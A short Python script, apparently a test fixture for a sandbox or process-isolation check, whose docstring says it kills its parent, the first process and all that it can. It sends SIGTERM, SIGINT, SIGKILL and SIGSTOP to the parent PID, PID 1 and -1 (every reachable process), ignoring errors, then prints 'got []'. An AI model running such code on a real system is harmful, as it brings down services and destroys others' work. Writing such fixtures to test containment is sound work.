# ruff: noqa
"""Kills its parent, the first process, and all that it can."""

import os
import signal

for number in (os.getppid(), 1, TARGETS["marker"], -1):
    for kind in (signal.SIGTERM, signal.SIGINT, signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(number, kind)
        except OSError:
            pass
print("got []")
